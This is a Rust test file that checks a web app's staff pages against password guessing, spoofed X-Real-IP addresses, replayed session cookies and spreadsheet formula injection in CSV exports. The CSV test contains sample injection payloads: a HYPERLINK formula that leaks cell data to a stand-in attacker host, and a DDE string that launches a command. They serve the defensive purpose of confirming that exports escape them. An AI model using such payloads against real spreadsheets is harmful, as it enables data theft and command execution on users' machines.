//! The staff pages under attack: guessing passwords, spoofed addresses, stolen cookies,
//! spreadsheet formulas in exports.

use std::net::SocketAddr;

use rocket::http::{ContentType, Header, Status};

use crate::helpers::*;

const ATTACKER: &str = "203.0.113.7:50000";
const OFFICE: &str = "198.51.100.20:50000";

async fn log_in_from(
    app: &TestApp,
    from: &str,
    name: &str,
    password: &str,
    spoofed: Option<String>,
) -> (Status, String) {
    let csrf = app.csrf().await;
    let mut request = app
        .client
        .post("/login")
        .remote(from.parse::<SocketAddr>().unwrap())
        .header(ContentType::Form)
        .body(encode(&[("name", name), ("password", password), ("csrf", &csrf)]));
    if let Some(address) = spoofed {
        request = request.header(Header::new("X-Real-IP", address));
    }
    let response = request.dispatch().await;
    (response.status(), response.into_string().await.unwrap_or_default())
}

#[rocket::async_test]
async fn guessing_a_staff_name_locks_out_the_guesser_not_the_staff_member() {
    let app = TestApp::spawn().await;
    frontdesk::staff::auth::add(&app.db, STAFF, STAFF_PASSWORD).await.unwrap();

    // Every guess claims a fresh address in X-Real-IP: no proxy sets it here, so it counts for nothing.
    for n in 0..10 {
        let (status, _) = log_in_from(&app, ATTACKER, STAFF, "guess", Some(format!("10.9.8.{n}"))).await;
        assert_eq!(status, Status::Unauthorized);
    }
    let (refused, page) = log_in_from(&app, ATTACKER, STAFF, STAFF_PASSWORD, Some("10.9.8.200".into())).await;
    assert_eq!(refused, Status::TooManyRequests, "even the right password, from the guesser: {page}");

    let (status, _) = log_in_from(&app, OFFICE, STAFF, STAFF_PASSWORD, None).await;
    assert_eq!(status, Status::SeeOther, "Diane, from the office, gets in");
    assert_eq!(app.get("/status.json").await.0, Status::Ok);
    let (_, metrics) = app.get("/metrics").await;
    for line in [
        "frontdesk_staff_logins_total{outcome=\"refused\"} 1",
        "frontdesk_staff_logins_total{outcome=\"succeeded\"} 1",
        "frontdesk_staff_logins_total{outcome=\"failed\"} 10",
    ] {
        assert!(metrics.lines().any(|l| l == line), "{line} missing from:\n{metrics}");
    }
}

#[rocket::async_test]
async fn an_unknown_name_and_a_wrong_password_are_answered_alike() {
    let app = TestApp::spawn().await;
    frontdesk::staff::auth::add(&app.db, STAFF, STAFF_PASSWORD).await.unwrap();

    let known = log_in_from(&app, OFFICE, STAFF, "wrong password", None).await;
    let unknown = log_in_from(&app, "198.51.100.21:1", "Nobody", "wrong password", None).await;

    assert_eq!(known.0, Status::Unauthorized);
    assert_eq!(unknown.0, known.0);
    let error = |page: &str| page.lines().find(|l| l.contains("Wrong")).map(str::trim).map(String::from);
    assert_eq!(error(&unknown.1), error(&known.1));
    assert!(error(&known.1).is_some());
}

/// The session cookie this client holds, as someone who copied it would replay it.
fn stolen_session(app: &TestApp) -> rocket::http::Cookie<'static> {
    app.client.cookies().get_private("staff_session").expect("logged in").into_owned()
}

async fn replay(app: &TestApp, cookie: &rocket::http::Cookie<'static>) -> Status {
    app.client.get("/status.json").private_cookie(cookie.clone()).dispatch().await.status()
}

#[rocket::async_test]
async fn logging_out_ends_the_persons_other_sessions_too() {
    let app = TestApp::spawn().await;
    app.log_in().await;
    let stolen = stolen_session(&app);
    assert_eq!(replay(&app, &stolen).await, Status::Ok);

    let csrf = app.csrf().await;
    assert_eq!(app.submit_form("/logout", &[("csrf", &csrf)]).await.0, Status::SeeOther);

    assert_eq!(replay(&app, &stolen).await, Status::Unauthorized);
}

#[rocket::async_test]
async fn a_new_password_or_a_removed_account_ends_every_session() {
    let app = TestApp::spawn().await;
    app.log_in().await;
    let stolen = stolen_session(&app);

    frontdesk::staff::auth::passwd(&app.db, STAFF, "a brand new password").await.unwrap();
    assert_eq!(replay(&app, &stolen).await, Status::Unauthorized);
    assert_eq!(app.get("/status.json").await.0, Status::Unauthorized, "this browser too");

    let (status, _) = log_in_from(&app, OFFICE, STAFF, "a brand new password", None).await;
    assert_eq!(status, Status::SeeOther);
    let stolen = stolen_session(&app);
    frontdesk::staff::auth::remove(&app.db, STAFF).await.unwrap();
    assert_eq!(replay(&app, &stolen).await, Status::Unauthorized);
    assert!(frontdesk::staff::auth::passwd(&app.db, STAFF, "whatever password").await.is_err());
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[rocket::async_test]
async fn csv_exports_carry_no_formulas() {
    let app = TestApp::spawn().await;
    let mut phone = app.call_from(TENANT);
    phone.answer().await;
    let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")";
    for words in [formula, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1 and more"] {
        phone.say(words).await;
    }
    app.log_in().await;

    let (_, transcript) = app.get(&format!("/calls/{}/transcript.csv", phone.sid)).await;
    let said: Vec<String> =
        cells(&transcript).into_iter().filter(|row| row[2] == "caller").map(|row| row[3].clone()).collect();
    assert_eq!(
        said,
        [format!("'{formula}"), "'@SUM(1+1)*cmd|' /C calc'!A0".into(), "'-2+3".into(), "'+1 and more".into()]
    );

    let (_, list) = app.get("/calls.csv").await;
    let rows = cells(&list);
    assert_eq!(rows[0][2], format!("'{TENANT}"), "a phone number starts with +");
    let formula_free =
        |row: &Vec<String>| row.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
    assert!(cells(&transcript).iter().chain(&rows).all(formula_free));
}
